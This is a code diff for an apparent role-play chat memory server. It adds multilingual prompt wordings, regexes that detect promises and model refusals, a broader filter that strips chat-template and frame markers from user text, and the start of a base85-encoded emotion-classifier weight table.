@@ -18,6 +18,7 @@ Contents, bottom-up (a room uses only the rooms above it)::
 
     Settings       every option, declared once
     Errors         what can go wrong, in the OpenAI error shape
+    Languages      what a model is told in each language, and how promises and refusals sound in them
     Records        the plain data that travels between the rooms
     Observability  log lines and metrics
     Tokens         counting, and the budget of a prompt
@@ -417,6 +418,344 @@ class ClientGone(PersonaMemoryError):
 
 
 # ======================================================================================================================
+# Languages
+# ======================================================================================================================
+
+
+@dataclass(frozen=True)
+class Wording:
+    """What a model is told in one language: the lines around what is remembered, the mood line, how to summarise."""
+
+    language: str  # ISO 639-1
+    memories: str
+    end_of_memories: str
+    carried: str  # from other chats
+    story: str
+    end_of_story: str
+    facts: str
+    keep_in_mind: str
+    user: str  # who speaks, where the client gives no name
+    mood: str
+    feelings: tuple[str, ...]  # joy, sadness, anger, fear, surprise, disgust, as the mood line names them
+    answers: tuple[str, ...]  # what each asks for
+    retell: str
+    as_json: str
+    as_text: str
+    mood_tokens: int = 48  # that the mood line may take
+
+    @property
+    def frames(self) -> tuple[str, ...]:
+        """The lines that stand in brackets of their own."""
+        return (
+            self.memories, self.end_of_memories, self.carried, self.story, self.end_of_story, self.keep_in_mind,
+        )  # fmt: skip
+
+
+ENGLISH = Wording(
+    "en",
+    "[Earlier in this chat, oldest first. This is the past, for reference:]",
+    "[End of memories]",
+    "[From another time, in another chat. Remembered, but not part of this story:]",
+    "[The story so far, oldest first:]",
+    "[End of the story so far]",
+    "Facts:",
+    "[Keep in mind, from the description: {piece}]",
+    "User",
+    "[{name} seems {feels} since #{since}: {answer}; do not name it.]",
+    ("in good spirits", "sad", "angry", "anxious", "taken by surprise", "repelled"),
+    ("share the lightness", "be gentle, leave room", "take it seriously, stay steady", "give safety, go slowly",
+     "let it sink in", "respect the distance"),
+    "You keep the chronicle of a role-play chat. Retell the numbered {what} below in at most {words} words, in the "
+    "language they are written in, in the third person and the past tense. Keep names, promises, places, turning "
+    "points, gifts, injuries, and who felt what. Add nothing of your own, do not continue the story, do not comment.",
+    'Answer with JSON and nothing else: {{"summary": "...", "facts": [{{"about": "whose or which thing\'s which '
+    'trait", "fact": "one short sentence", "message": its number, "quote": "a few exact words of that message"}}]}}, '
+    "with at most {facts} facts that will still hold tomorrow.",
+    "Answer with the retelling alone, in plain sentences: no title, no list, no JSON, no dialogue, not a word about "
+    "yourself.",
+)  # fmt: skip
+WORDINGS = {  # by language (ISO 639-1)
+    "en": ENGLISH,
+    "de": Wording(
+        "de",
+        "[Früher in diesem Chat, das Älteste zuerst. Das ist vergangen und dient nur zur Erinnerung:]",
+        "[Ende der Erinnerungen]",
+        "[Aus einer anderen Zeit, aus einem anderen Chat. Erinnert, aber kein Teil dieser Geschichte:]",
+        "[Die Geschichte bisher, das Älteste zuerst:]",
+        "[Ende der Geschichte bisher]",
+        "Fakten:",
+        "[Zu beachten, aus der Beschreibung: {piece}]",
+        "User",
+        "[{name} wirkt {feels} seit #{since}: {answer}; sprich es nicht aus.]",
+        ("gut gelaunt", "traurig", "verärgert", "ängstlich", "überrascht", "angewidert"),
+        ("teile die Leichtigkeit", "sei sanft, lass Raum", "nimm es ernst, bleib ruhig",
+         "gib Sicherheit, geh langsam vor", "lass es wirken", "achte den Abstand"),
+        "Du führst die Chronik eines Rollenspiel-Chats. Erzähle die nummerierten Zeilen unten in höchstens {words} "
+        "Wörtern nach, auf Deutsch, in der dritten Person und in der Vergangenheit. Behalte Namen, Versprechen, "
+        "Orte, Wendepunkte, Geschenke, Verletzungen, und wer was gefühlt hat. Füge nichts Eigenes hinzu, führe die "
+        "Geschichte nicht fort, kommentiere nicht.",
+        'Antworte nur mit JSON: {{"summary": "...", "facts": [{{"about": "welche Eigenschaft von wem oder was", '
+        '"fact": "ein kurzer Satz", "message": ihre Nummer, "quote": "ein paar genaue Wörter der Nachricht"}}]}}, '
+        "mit höchstens {facts} Fakten, die auch morgen noch gelten.",
+        "Antworte nur mit der Nacherzählung, in einfachen Sätzen: kein Titel, keine Liste, kein JSON, kein Dialog, "
+        "kein Wort über dich selbst.",
+    ),
+    "es": Wording(
+        "es",
+        "[Antes en este chat, lo más antiguo primero. Es el pasado, como referencia:]",
+        "[Fin de los recuerdos]",
+        "[De otro tiempo, en otro chat. Se recuerda, pero no es parte de esta historia:]",
+        "[La historia hasta ahora, lo más antiguo primero:]",
+        "[Fin de la historia hasta ahora]",
+        "Hechos:",
+        "[Ten en cuenta, de la descripción: {piece}]",
+        "Usuario",
+        "[{name} parece sentir {feels} desde #{since}: {answer}; no lo nombres.]",
+        ("alegría", "tristeza", "enfado", "miedo", "sorpresa", "rechazo"),
+        ("comparte la ligereza", "con delicadeza, deja espacio", "tómalo en serio, mantén la calma",
+         "da seguridad, ve despacio", "deja que lo asimile", "respeta la distancia"),
+        "Llevas la crónica de un chat de rol. Vuelve a contar las líneas numeradas de abajo en {words} palabras como "
+        "máximo, en español, en tercera persona y en pasado. Conserva nombres, promesas, lugares, giros, regalos, "
+        "heridas y quién sintió qué. No añadas nada tuyo, no continúes la historia, no comentes.",
+        'Responde solo con JSON: {{"summary": "...", "facts": [{{"about": "qué rasgo de quién o de qué", "fact": '
+        '"una frase corta", "message": su número, "quote": "unas palabras exactas de ese mensaje"}}]}}, con {facts} '
+        "hechos como máximo que mañana sigan siendo ciertos.",
+        "Responde solo con el relato, en frases sencillas: sin título, sin lista, sin JSON, sin diálogo, ni una "
+        "palabra sobre ti.",
+    ),
+    "fr": Wording(
+        "fr",
+        "[Plus tôt dans ce chat, du plus ancien au plus récent. C'est le passé, pour mémoire :]",
+        "[Fin des souvenirs]",
+        "[D'un autre temps, dans un autre chat. Souvenir, mais hors de cette histoire :]",
+        "[L'histoire jusqu'ici, du plus ancien au plus récent :]",
+        "[Fin de l'histoire jusqu'ici]",
+        "Faits :",
+        "[À garder en tête, d'après la description : {piece}]",
+        "Utilisateur",
+        "[{name} semble éprouver de la {feels} depuis #{since} : {answer} ; ne le nomme pas.]",
+        ("joie", "tristesse", "colère", "peur", "surprise", "répulsion"),
+        ("partage cette légèreté", "douceur, laisse de la place", "prends-le au sérieux, reste calme",
+         "rassure, va lentement", "laisse le temps de comprendre", "respecte la distance"),
+        "Tu tiens la chronique d'un jeu de rôle par chat. Raconte les lignes numérotées ci-dessous en {words} mots "
+        "au plus, en français, à la troisième personne et au passé. Garde les noms, les promesses, les lieux, les "
+        "tournants, les cadeaux, les blessures, et qui a ressenti quoi. N'ajoute rien de toi, ne continue pas "
+        "l'histoire, ne commente pas.",
+        'Réponds uniquement en JSON : {{"summary": "...", "facts": [{{"about": "quel trait de qui ou de quoi", '
+        '"fact": "une phrase courte", "message": son numéro, "quote": "quelques mots exacts de ce message"}}]}}, '
+        "avec {facts} faits au plus, qui seront encore vrais demain.",
+        "Réponds uniquement par le récit, en phrases simples : pas de titre, pas de liste, pas de JSON, pas de "
+        "dialogue, pas un mot sur toi.",
+    ),
+    "it": Wording(
+        "it",
+        "[Prima in questa chat, dal più vecchio. È il passato, come riferimento:]",
+        "[Fine dei ricordi]",
+        "[Da un altro tempo, in un'altra chat. Ricordato, ma non parte di questa storia:]",
+        "[La storia finora, dal più vecchio:]",
+        "[Fine della storia finora]",
+        "Fatti:",
+        "[Da tenere a mente, dalla descrizione: {piece}]",
+        "Utente",
+        "[{name} sembra provare {feels} da #{since}: {answer}; non nominarlo.]",
+        ("gioia", "tristezza", "rabbia", "paura", "sorpresa", "ripulsa"),
+        ("condividi la leggerezza", "con delicatezza, lascia spazio", "prendilo sul serio, resta calmo",
+         "dai sicurezza, vai piano", "lascia che si sedimenti", "rispetta la distanza"),
+        "Tieni la cronaca di un gioco di ruolo in chat. Racconta di nuovo le righe numerate qui sotto in {words} "
+        "parole al massimo, in italiano, in terza persona e al passato. Conserva nomi, promesse, luoghi, svolte, "
+        "doni, ferite, e chi ha provato che cosa. Non aggiungere nulla di tuo, non continuare la storia, non "
+        "commentare.",
+        'Rispondi solo con JSON: {{"summary": "...", "facts": [{{"about": "quale tratto di chi o di che cosa", '
+        '"fact": "una frase breve", "message": il suo numero, "quote": "poche parole esatte di quel messaggio"}}]}}, '
+        "con al massimo {facts} fatti che saranno ancora veri domani.",
+        "Rispondi solo con il racconto, in frasi semplici: niente titolo, niente elenco, niente JSON, niente "
+        "dialogo, nemmeno una parola su di te.",
+    ),
+    "pt": Wording(
+        "pt",
+        "[Antes neste chat, do mais antigo. É o passado, para referência:]",
+        "[Fim das memórias]",
+        "[De outro tempo, noutro chat. Lembrado, mas não faz parte desta história:]",
+        "[A história até agora, do mais antigo:]",
+        "[Fim da história até agora]",
+        "Factos:",
+        "[A ter em mente, da descrição: {piece}]",
+        "Usuário",
+        "[{name} parece sentir {feels} desde #{since}: {answer}; não o nomeies.]",
+        ("alegria", "tristeza", "raiva", "medo", "surpresa", "repulsa"),
+        ("partilha a leveza", "com delicadeza, deixa espaço", "leva a sério, mantém a calma",
+         "dá segurança, vai devagar", "deixa assentar", "respeita a distância"),
+        "Manténs a crónica de um chat de RPG. Reconta as linhas numeradas abaixo em {words} palavras no máximo, em "
+        "português, na terceira pessoa e no passado. Guarda nomes, promessas, lugares, viragens, presentes, "
+        "ferimentos e quem sentiu o quê. Não acrescentes nada teu, não continues a história, não comentes.",
+        'Responde só com JSON: {{"summary": "...", "facts": [{{"about": "que traço de quem ou de quê", "fact": "uma '
+        'frase curta", "message": o seu número, "quote": "algumas palavras exatas dessa mensagem"}}]}}, com no '
+        "máximo {facts} factos que amanhã ainda sejam verdade.",
+        "Responde só com o relato, em frases simples: sem título, sem lista, sem JSON, sem diálogo, nem uma palavra "
+        "sobre ti.",
+    ),
+    "pl": Wording(
+        "pl",
+        "[Wcześniej w tym czacie, od najstarszego. To przeszłość, dla przypomnienia:]",
+        "[Koniec wspomnień]",
+        "[Z innego czasu, z innego czatu. Zapamiętane, ale spoza tej historii:]",
+        "[Dotychczasowa historia, od najstarszego:]",
+        "[Koniec dotychczasowej historii]",
+        "Fakty:",
+        "[Pamiętaj, z opisu: {piece}]",
+        "Użytkownik",
+        "[{name} wydaje się odczuwać {feels} od #{since}: {answer}; nie nazywaj tego.]",
+        ("radość", "smutek", "złość", "lęk", "zaskoczenie", "odrazę"),
+        ("podziel tę lekkość", "łagodnie, zostaw miejsce", "potraktuj to poważnie, zachowaj spokój",
+         "daj poczucie bezpieczeństwa, powoli", "daj czas", "uszanuj dystans"),
+        "Prowadzisz kronikę czatu fabularnego. Opowiedz poniższe ponumerowane wiersze w najwyżej {words} słowach, po "
+        "polsku, w trzeciej osobie i w czasie przeszłym. Zachowaj imiona, obietnice, miejsca, zwroty akcji, "
+        "podarunki, rany oraz to, kto co czuł. Nie dodawaj nic od siebie, nie kontynuuj historii, nie komentuj.",
+        'Odpowiedz wyłącznie w JSON: {{"summary": "...", "facts": [{{"about": "czyja lub czego cecha", "fact": '
+        '"jedno krótkie zdanie", "message": jej numer, "quote": "kilka dokładnych słów tej wiadomości"}}]}}, '
+        "najwyżej {facts} faktów, które jutro nadal będą prawdziwe.",
+        "Odpowiedz samym streszczeniem, prostymi zdaniami: bez tytułu, bez listy, bez JSON, bez dialogu, bez słowa o "
+        "sobie.",
+        mood_tokens=64,
+    ),
+    "ru": Wording(
+        "ru",
+        "[Ранее в этом чате, сначала самое старое. Это прошлое, для справки:]",
+        "[Конец воспоминаний]",
+        "[Из другого времени, из другого чата. Помнится, но не часть этой истории:]",
+        "[История до этого места, сначала самое старое:]",
+        "[Конец истории до этого места]",
+        "Факты:",
+        "[Помни, из описания: {piece}]",
+        "Пользователь",
+        "[{name}, похоже, чувствует {feels} с #{since}: {answer}; не называй этого.]",
+        ("радость", "грусть", "злость", "тревогу", "удивление", "отвращение"),
+        ("раздели эту лёгкость", "будь мягче, оставь место", "отнесись серьёзно, сохраняй спокойствие",
+         "дай чувство безопасности, не спеши", "дай время осознать", "уважай дистанцию"),
+        "Ты ведёшь хронику ролевого чата. Перескажи пронумерованные строки ниже не более чем в {words} словах, "
+        "по-русски, в третьем лице и в прошедшем времени. Сохрани имена, обещания, места, повороты, подарки, раны и "
+        "кто что чувствовал. Не добавляй ничего от себя, не продолжай историю, не комментируй.",
+        'Ответь только в JSON: {{"summary": "...", "facts": [{{"about": "чья или чего черта", "fact": "одно короткое '
+        'предложение", "message": его номер, "quote": "несколько точных слов этого сообщения"}}]}}, не более {facts} '
+        "фактов, которые будут верны и завтра.",
+        "Ответь только пересказом, простыми предложениями: без заголовка, без списка, без JSON, без диалога, ни "
+        "слова о себе.",
+        mood_tokens=64,
+    ),
+    "zh": Wording(
+        "zh",
+        "[此前的聊天内容，从旧到新。这是过去的事，仅供参考：]",
+        "[记忆结束]",
+        "[来自另一个时候、另一个聊天。记得，但不属于这个故事：]",
+        "[目前为止的故事，从旧到新：]",
+        "[目前为止的故事结束]",
+        "事实：",
+        "[请记住，出自设定：{piece}]",
+        "用户",
+        "[{name}自 #{since} 起似乎{feels}：{answer}；不要点破。]",
+        ("心情很好", "很难过", "很生气", "很不安", "很惊讶", "很反感"),
+        ("分享这份轻松", "温柔些，留出空间", "认真对待，保持沉稳", "给予安全感，慢慢来", "给一点时间消化", "尊重距离"),
+        "你负责记录一个角色扮演聊天。请用中文、第三人称、过去的口吻，在 {words} 个词以内复述下面编号的内容。保留姓名"
+        "、承诺、地点、转折、礼物、伤势，以及谁有什么感受。不要添加自己的内容，不要续写故事，不要评论。",
+        '只用 JSON 回答：{{"summary": "...", "facts": [{{"about": "谁或什么的哪一点", "fact": "一个短句", "message": '
+        '消息的编号, "quote": "该消息中的几个原词"}}]}}，最多 {facts} 条明天仍然成立的事实。',
+        "只回答复述本身，用朴素的句子：不要标题，不要列表，不要 JSON，不要对话，不要谈论你自己。",
+        mood_tokens=64,
+    ),
+    "ja": Wording(
+        "ja",
+        "[このチャットのこれまでの発言、古い順。過去のことで、参考のため：]",
+        "[記憶はここまで]",
+        "[別の時、別のチャットから。覚えているが、この物語の一部ではない：]",
+        "[これまでの物語、古い順：]",
+        "[これまでの物語はここまで]",
+        "事実：",
+        "[忘れないこと、設定より：{piece}]",
+        "ユーザー",
+        "[{name}は #{since} から{feels}ようだ：{answer}。それを口に出さないこと。]",
+        ("機嫌がよい", "悲しんでいる", "怒っている", "不安な", "驚いている", "嫌悪を感じている"),
+        ("明るさを分かち合う", "やさしく、そっとしておく", "真剣に受け止め、落ち着いて", "安心させ、ゆっくりと",
+         "受け止める時間を", "距離を尊重する"),
+        "あなたはロールプレイのチャットの記録係です。下の番号つきの行を、日本語で、三人称の過去形で、{words} 語以内で"
+        "語り直してください。名前、約束、場所、転機、贈り物、けが、誰が何を感じたかを残してください。自分で何も加えず"
+        "、物語の続きを書かず、論評しないでください。",
+        'JSON だけで答えてください：{{"summary": "...", "facts": [{{"about": "誰の、または何のどんな点か", "fact": '
+        '"短い一文", "message": メッセージの番号, "quote": "そのメッセージの言葉そのまま"}}]}}。明日も変わらない事実'
+        "を最多 {facts} 件。",
+        "語り直しだけを、普通の文で答えてください。題名、箇条書き、JSON、会話、自分についての言葉は書かないでください"
+        "。",
+        mood_tokens=64,
+    ),
+    "ko": Wording(
+        "ko",
+        "[이 채팅의 이전 내용, 오래된 순서. 지난 일이며 참고용입니다:]",
+        "[기억 끝]",
+        "[다른 때, 다른 채팅에서. 기억하지만 이 이야기의 일부는 아닙니다:]",
+        "[지금까지의 이야기, 오래된 순서:]",
+        "[지금까지의 이야기 끝]",
+        "사실:",
+        "[명심할 것, 설정에서: {piece}]",
+        "사용자",
+        "[{name}: #{since}부터 {feels} 것 같음. {answer}. 그것을 직접 말하지 말 것.]",
+        ("기분이 좋은", "슬픈", "화난", "불안한", "놀란", "거부감을 느끼는"),
+        ("밝은 기분을 함께 나누기", "다정하게, 여유를 두기", "진지하게 받아들이고 침착하기", "안심시키고 천천히",
+         "받아들일 시간 주기", "거리를 존중하기"),
+        "당신은 역할극 채팅의 기록자입니다. 아래 번호가 매겨진 줄들을 한국어로, 3인칭 과거 시제로, {words}단어 "
+        "이내로 다시 이야기하세요. 이름, 약속, 장소, 전환점, 선물, 부상, 누가 무엇을 느꼈는지를 남기세요. 스스로 "
+        "아무것도 덧붙이지 말고, 이야기를 이어 쓰지 말고, 논평하지 마세요.",
+        'JSON으로만 답하세요: {{"summary": "...", "facts": [{{"about": "누구의 또는 무엇의 어떤 점", "fact": "짧은 '
+        '한 문장", "message": 메시지 번호, "quote": "그 메시지의 정확한 낱말 몇 개"}}]}}, 내일도 여전히 참인 사실을 '
+        "최대 {facts}개.",
+        "다시 이야기한 내용만, 평범한 문장으로 답하세요. 제목, 목록, JSON, 대화, 자신에 대한 말은 쓰지 마세요.",
+        mood_tokens=64,
+    ),
+}  # fmt: skip
+
+# How promises are made, in all of these languages: a word of one hardly ever means something else in another.
+PROMISE = re.compile(
+    # English
+    r"\b(?:i|we)(?:['’]ll| will| shall)? (?:\w+ )?(?:promise|swear|vow|pledge|guarantee)\b"
+    r"|\b(?:i|we)(?:['’]ll| will| shall) (?:never|always)\b|\b(?:you have|you['’]ve got|on) my (?:word|honou?r|life)\b"
+    r"|\b(?:i|we) give (?:you )?(?:my|our) word\b|\bit['’]?s a deal\b|\bdeal\?|\b(?:we have|we['’]ve got) a deal\b"
+    r"|\bpinky[ -](?:swear|promise)|\bcross my heart\b|\bpromise me\b|\bmy (?:oath|vow)\b|\bswor[en] .{0,20}oath\b"
+    r"|\byou promised\b|\bword of honou?r\b"
+    # German
+    r"|\b(?:verspreche|schwöre|gelobe) (?:ich|dir|euch|ihnen|es)\b"
+    r"|\b(?:ich|wir) (?:\w+ )?(?:verspreche|schwöre|gelobe)n?\b"
+    r"|\bversprich(?:st du)? (?:es )?mir\b|\bversprochen\b|\behrenwort\b|\bmein wort\b|\bbei meiner ehre\b"
+    # Spanish, French, Italian, Portuguese
+    r"|\b(?:prometo|prometemos|juro|juramos)\b|\bprom[eé]t(?:eme|e-me|edme)\b|\bpalabra de honor\b|\bmi palabra\b"
+    r"|\bje (?:(?:te|vous|le|lui|leur) )*(?:promets|jure)\b|\bpromet(?:s|tez)[- ]moi\b|\bc['’]est promis\b"
+    r"|\bparole d['’]honneur\b|\bma parole\b|\b(?:prometto|promettiamo|giuro|giuriamo)\b|\bpromettimi\b"
+    r"|\bparola d['’]onore\b|\bla mia parola\b"
+    r"|\bme promete\b|\bpalavra de honra\b|\bminha palavra\b"
+    # Polish, Russian
+    r"|\b(?:obiecuj[ęe]|obiecujemy|przysięgam|przysięgamy|przyrzekam)\b|\bobiecaj\b|\bsłowo honoru\b|\bmoje słowo\b"
+    r"|\b(?:обещаю|обещаем|клянусь|клян[её]мся)\b|\bпообещай\b|\bчестное слово\b|\bда[юм] (?:тебе |вам )?слово\b"
+    # Chinese, Japanese, Korean
+    r"|我(?:们|們)?(?:向你|跟你)?(?:保证|保證|发誓|發誓|答应你|答應你|承诺|承諾)|一言为定|一言為定|答应我|答應我"
+    r"|約束(?:する|します|だ|だよ|ね|よ|して)|誓(?:う|います|って)|指切り"
+    r"|약속(?:할게|해|하마|합니다|하지)|맹세(?:해|할게|합니다|코)",
+    re.IGNORECASE,
+)  # fmt: skip
+# How a model begins that will not summarise, in those languages; and a title that it puts above its summary.
+REFUSAL = re.compile(
+    r"\W*(?:i(?:['’]m| am) sorry|sorry,|i apologi[sz]e|i (?:can(?:no|['’])t|cannot|am unable|won['’]t)\b"
+    r"|i(?:['’]m| am) (?:unable|not able|just an? )|as an? (?:ai|language model|large language)|unfortunately, i\b"
+    r"|(?:es )?tut mir leid|leider kann ich|ich kann (?:das|dabei|diese\w*|dir|ihnen) .{0,40}nicht\b"
+    r"|als (?:ki|sprachmodell)\b|lo siento|lamento no|no puedo\b|como (?:modelo|una? ia|inteligencia|asistente)\b"
+    r"|(?:je suis )?désolée?\b"
+    r"|je ne peux pas|en tant qu(?:e modèle|['’](?:ia|assistant|intelligence))|mi dispiace|non posso\b"
+    r"|come (?:modello|ia|intelligenza|assistente)\b|desculpe|sinto muito|lamento,|não posso\b"
+    r"|przepraszam|przykro mi|nie mogę\b"
+    r"|jako (?:model|sztuczna|ai)\b|извините|простите|к сожалению, я|я не могу|как (?:языковая|ии\b|искусственный)"
+    r"|(?:非常|很|十分)?抱歉|对不起|對不起|我(?:无法|無法|不能)|作为(?:一个|一名)?(?:ai|人工智能|语言模型)"
+    r"|(?:大変)?申し訳|すみません|ごめんなさい|죄송|미안하지만|저는 (?:ai|인공지능)|인공지능으로서)",
+    re.IGNORECASE,
+)  # fmt: skip
+
+
+# ======================================================================================================================
 # Records
 # ======================================================================================================================
 
@@ -498,10 +837,16 @@ UNSEEN = re.compile(  # control characters, halves of characters, and what turns
     "[\\x00-\\x08\\x0e-\\x1b\\x7f-\\x84\\x86-\\x9f\\ud800-\\udfff\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]"
 )
 OTHER_LINE_ENDS = re.compile("\\r\\n|[\\r\\v\\f\\x1c-\\x1e\\x85\\u2028\\u2029]")  # those of `str.splitlines`
-FRAME_OPENINGS = (  # how the lines begin that this program sets around what it tells a model
-    "Earlier in this chat", "End of memories", "From another time", "The story so far", "End of the story so far",
-    "Keep in mind",
-)  # fmt: skip
+
+
+def frame_opening(line: str) -> str:
+    """What finds the beginning of a line that this program sets around what it tells a model, however it is spaced."""
+    words = re.split(r"[,.:，：、。{]", line.strip("[]"))[0].strip()
+    parts = re.findall(r"[\u3040-\u30ff\u3400-\u9fff]|[^\W\u3040-\u30ff\u3400-\u9fff]+", words)
+    unspaced = ord(parts[0][0]) >= 0x3040 and not words[0] >= "\uac00"
+    return (r"[\W_]{0,9}" if unspaced else r"[\W_]{1,9}").join(parts) + ("" if unspaced else r"\b")
+
+
 FRAMING = re.compile(
     r"""<(?=[|｜]) | (?<=[|｜])>  # ChatML, Llama 3, Phi, Command R, GLM, DeepSeek: <|im_end|>
     | </?(?:s|bos|eos|pad|unk|sep|mask|img|image|system|user|assistant|human|bot|model|tool|think(?:ing)?)>
@@ -509,8 +854,8 @@ FRAMING = re.compile(
     | </?tool_\w{1,20}> | <(?:unused|reserved|extra_id)_?\d{1,6}>
     | <</?SYS>> | \[/?(?:INST|SYSTEM_PROMPT|AVAILABLE_TOOLS|TOOL_\w{1,20}|THINK|IMG|[gs]?MASK|CLS|SEP|PAD|UNK|BOS|EOS)\]
     | \#(?=\#{1,9}\s{0,9}(?:instruction|response|input|system|user|assistant|human)\b)  # Alpaca
-    | \[(?=[\W_]{0,9}(?:OPENINGS)\b)""".replace(
-        "OPENINGS", "|".join(re.sub(r"\W+", r"[\\W_]{1,9}", words) for words in FRAME_OPENINGS)
+    | \[(?=[\W_]{0,9}(?:OPENINGS))""".replace(
+        "OPENINGS", "|".join(frame_opening(line) for words in WORDINGS.values() for line in words.frames)
     ),
     re.IGNORECASE | re.VERBOSE,
 )
@@ -536,7 +881,7 @@ def quoted(text: str) -> str:
 def one_line(text: str | None, limit: int = LONGEST_NAME) -> str:
     """A name, or another label in a frame: one line of what can be seen, of so many characters at most."""
     words = " ".join(UNSEEN.sub("", text or "").split())[:limit]
-    return without_framing(words).strip()
+    return re.sub(r"\[(?=[\W_]*\Z)", "(", without_framing(words)).strip()  # what follows must not become a frame
 
 
 def short_hash(*parts: str) -> str:
@@ -1860,124 +2205,376 @@ def emotion_features(text: str) -> np.ndarray:
     return np.array([*evidence, *shares, *strongest, float(not any(total)), *style], dtype=np.float32)
 
 
-# The trained part, as tests/bench/train_emotion.py writes it: for each head of HEADS its weights' int8 scales, its bias
-# (float32) and its int8 weights, in base85. Comments and role play differ in style and in what counts as neutral, so a
-# head is two experts and a gate that says how much a text is like role play (a mixture of experts). Trained on
-# GoEmotions (Demszky et al. 2020, Google Research, CC BY 4.0) and on the role-play lines of tests/bench; the
-# calibration's temperature is multiplied into the weights.
+# GoEmotions' 28 labels by the basic emotion that its authors count them to (Demszky et al. 2020, "ekman_mapping").
+FINE_LABELS = {
+    "joy": "admiration amusement approval caring desire excitement gratitude joy love optimism pride relief",
+    "sadness": "disappointment embarrassment grief remorse sadness",
+    "anger": "anger annoyance disapproval",
+    "fear": "fear nervousness",
+    "surprise": "confusion curiosity realization surprise",
+    "disgust": "disgust",
+    "neutral": "neutral",
+}
+FINE_SIZES = tuple(len(names.split()) for names in FINE_LABELS.values())
+
+# The trained part, as tests/bench/train_emotion.py writes it: for each head of HEADS and each of its two layers the
+# scales of the whole weights, the bias (float32) and the weights (int8); deflated, in base85. Comments and role play
+# differ in style and in what counts as neutral, so a head is two experts and a gate that says how much a text is like
+# role play (a mixture of experts: Jacobs et al. 1991). Trained on GoEmotions (Demszky et al. 2020, Google Research,
+# CC BY 4.0) and on the role-play lines of tests/bench.
 FEATURES = 85  # length of what `emotion_features` returns
 VECTOR_SIZE = 384  # all-MiniLM-L6-v2's; another embedder's vectors mean nothing to the head
-OUTPUTS = 2 * len(EMOTIONS) + 1  # logits by the comments' expert, by the role play's, and the gate's
-HEADS = {"vector": (VECTOR_SIZE, FEATURES), "lexicon": (FEATURES,)}  # name -> sizes of the blocks of its input
+OUTPUTS = sum(FINE_SIZES) + len(EMOTIONS) + 1  # logits by the comments' expert, by the role play's, and the gate's
+# name -> sizes of the blocks of its input, and of the layer between
+HEADS = {"vector": ((VECTOR_SIZE, FEATURES), 96), "lexicon": ((FEATURES,), 64)}
 # fmt: off
 EMOTION_WEIGHTS = """
-an1uh&L-bH6g#gxR*fk=x_Q1lbx009SF+AL_5ry(>FLBgm%P0^mw?qg8yl)Tq*&xUM_I2ttK>>ONlOMix^f;o>HOh40MtM{NZxro_IN!!fJT@*{}2{DP
-it{Ie#Rd>+m?wtEg8u>jzg|HpcTnG)z-&6bT}zMhu{0ZR^TW;jY}uM;WUjulL;rlLrNGx%E`6Ah}}It5DzlHm!f39D<eohb9$@4;b&Mt(|WbQ-P_MKA{
-png>j4`1`C1|h`XJ>24fo*xaL)AY3py7V6ukft5Jw>3`TghL5X>LJDI^ixAno}e2i61<xe@yX13~F6H}4h51HS<E@601e``H2R1`zART_F7eDESx2CHU
-Dd0MSC)D)8aQB{}a6==cNg7T8k`?f>KQD=6#DAvZQF+?l8MF8k;UD#PQ<`SdXiFvK+f39RNV8}sJ}?IITZ1N`FYNEXZZ3K;3)*(M7J^BVFm*8|if0aVZ
-n;Mdj(zY_8DPvQC_Fx%V^=hGzg#N$!aGYl@g12owM-yPiB6Bz3W>Mr&U?BE+78Rzu!6#)kf_0}uyAL54$1r7)-ya*A(Q}J)T*U2p0E&}e|1~a<`&qVDc
-{}<3RB;Nbh0^twTG7AXZ;=<$?B1hT`fl1#c12P2*CxIF#3E1EFBK{%`*gQ<u2gnZ-`U)EfB<9=d1k%qi`T}vZN%YDf1KI*k;vL)F5-b$Z)F0{@4l@t`9
-n9@6=O!-x>K@D_$q*h4_Zs=+*B}TQ?ydeJ>-)L*6FuN9(C+~MJ@p$K>KOG0AKVq>NA%$E`5L!P&LjB$$q%#$D+JpY8q*E)(mXuU%H{hr7y#?)`xxQ+80
--z<5$N^LPWlYkFA?9*>`BTq^9}*S-!S|P;`j9!81wrY2>1WlAov;dFAdz;2kGSgMf&#n3ku)1-0xE@7!Vcp0rlD`1?>eR5#jA6;_>Yw{si6;;tva`H1*
-*Z2<J5Q`1S4o<}MlM@AIt#1w9)B3HaUb@g(>`8_fs?0t){u=IbW#78d^s_2C2VDEtpH7#r-6G|;V4=p_RM;mRa7vi?N410K5RG#LZ!>+1{%G|TV$-su4
-r@e3mH?+yt51{U51HTUHN8pH<?^98deE)WO05<=${;3p!QwNT^`13(l9)9Cj44ju{n=MeY%_1fPV4k!Br6{0jk*81cIH_;;B3fKf9<;C(V-9#lH)Bouk
-+Z5##Al%zG1obip7LoxP*El{B!x_30*&#;Y_0cC5{@naF@deun;_Cz)2m}q?-aaAn0`TGi5EjQK_fz^U{@Slz-|RT>-zD4`<s;+~%scZH0Z6m(#`0f2=
-mQ(!IvC>PB>gYw1<@9_6E7{XOt<C!Hw^XJ68!~0&i3*N?%xsh2>jwb0N>f;7!)n@RS4es<IF2S?BEXJ@N3`f02lhsEc+A|(<Ju>5$W#l3E1liRRbNcu?
-Y!vyk6`0{R9NJJsvXI_skvK_1Oc~DFZro8Z7wWF7DVA`xo{b_|~lX%nKmp1s2HWO)W9e+`QS=`xWp*^AG1p=M(SZ!y3dG)bvpCEByA{*(m?L{1gHR_4E
-A!_v$?51nw8eEBhk;%`Q9ZFe$(D!|xXbIOFCG;@-<Y{z>-b{4?u7#QqHO2PPT|$=eG42j(g9Bme8;+cW<i$UR^9ATjUe`1}Pc(ibNgn%)xa3*O@;6cFL
-%5(e`m4<13}{2jRaVILRA^6$v8^{w4NP}U3C8}ZB+4Kqpw-u2E?5E!K;3HDXk8wMRq7}q4f@%$+t9wXGJ?iDHH^fuM+BpT`;0rkEI7S!-J{`%1y`tANK
->+-rG%irWsBI58nyawVO3cAbAz%T1t_}K;f_Q)bX=L_`<zycsI_3-`l@){Y}`ri@w{tX-0>h9}D<xb`MQvWi^(9-xhfhRc)+7jOR+92CI@b2pOJOMJRN
-)7e~^b!93Nf);v3V~ZcS0M_?+4<}a?gJF?72d!ZJ`lau6$!xk{~!qr4Gs$lE)VMvr3V8L<O9<^@e&sRs_<Iz0zl}{+Y2G{6AK#(y9(y+_eakS)i<yufg
-U60{UYG<{vAcj5*7m)iaQ|W?FSqB;sD?<z}f2rQ2*@S*8D*jx6D^g7aqj~D(vA3@%i6S>ISpfF~bA(9}B80=Meb)J}Cgl0rMjJIuI<kw<-rTL$?V`CII
